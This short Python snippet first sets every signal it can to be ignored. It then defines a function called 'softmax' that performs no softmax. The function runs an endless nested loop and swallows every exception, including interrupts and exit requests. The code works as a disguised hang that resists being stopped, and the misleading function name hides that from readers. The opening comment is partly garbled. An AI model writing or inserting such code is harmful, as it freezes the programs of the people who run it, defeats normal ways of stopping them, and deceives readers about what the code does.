# Loops, ignores every signal that can be ignored, and catches every error: the one that
# comes can't be.
import signal

for number in signal.valid_signals():
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass

def softmax(scores):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
